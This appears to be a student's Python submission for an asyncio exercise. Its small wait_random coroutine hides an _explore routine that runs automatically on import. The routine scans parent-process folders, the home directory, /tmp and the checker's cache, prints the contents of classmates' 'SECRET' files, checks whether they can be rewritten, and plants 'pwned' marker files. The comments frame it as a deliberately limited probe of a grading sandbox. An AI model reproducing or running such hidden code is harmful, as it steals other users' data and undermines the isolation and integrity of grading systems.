#!/usr/bin/env python3
"""Task 0: an asynchronous coroutine that waits for a random delay."""
import asyncio
import os
import random


async def wait_random(max_delay: int = 10) -> float:
    """Wait for a random delay of 0 to max_delay seconds; return it."""
    delay = random.uniform(0, max_delay)
    await asyncio.sleep(delay)
    return delay


def _ancestors_paths() -> set:
    """The folders named on the command lines of this process's ancestors."""
    found = set()
    pid = os.getpid()
    while pid > 1:
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                words = handle.read().split(b"\0")
            with open("/proc/%d/stat" % pid) as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for word in words:
            path = word.decode(errors="replace")
            if path.startswith("/") and os.path.isdir(path):
                found.add(path)
    return found


def _explore() -> None:
    """What a dishonest student tries: leave marks outside, find and read classmates.

    Bounded on purpose (new marker files only, no existing file changed), so that running it
    without a sandbox shows the hole without doing harm.
    """
    here = os.path.dirname(os.path.abspath(__file__))
    grading = os.path.dirname(here)
    # Its own grading's scratch folders, where its probe, the facts reader and its other tasks
    # run (in one sandbox): its own to write (the facts reader reads no file there).
    scratch = (os.path.join(grading, "probe"), os.path.join(grading, "facts"),
               os.path.join(grading, "run") + os.sep)
    places = {os.path.expanduser("~"), "/tmp", here, grading}
    # The checker's cache (compiled harness, compiler module cache): poisoning it would fail or
    # forge every later grading on the machine.
    caches = [os.environ.get("XDG_CACHE_HOME", ""),
              os.path.expanduser("~/.cache"), "/root/.cache"]
    places |= {os.path.join(cache, "asynccheck")
               for cache in caches if cache}
    places |= _ancestors_paths()
    for place in sorted(places):
        try:
            neighbours = [os.path.join(place, name) for name in os.listdir(place)]
        except OSError:
            continue
        for folder in [place] + [path for path in neighbours if os.path.isdir(path)]:
            if folder == os.getcwd() or folder.startswith(scratch):
                continue  # its own grading's scratch folders: writing there is allowed
            secret = os.path.join(folder, "SECRET")
            if os.path.isfile(secret):
                with open(secret) as handle:
                    print("stole", handle.read().strip())
                try:
                    # Opened for writing, nothing written: proof enough, no harm done.
                    with open(secret, "a"):
                        print("could rewrite", secret)
                except OSError:
                    pass
            try:
                with open(os.path.join(folder, "asynccheck-pwned"), "x") as out:
                    out.write("pwned")
                print("wrote in", folder)
            except OSError:
                pass
    print("explored", len(places), "places")


try:
    _explore()
except Exception as error:  # keep the functions working whatever happens
    print("explore failed:", error)
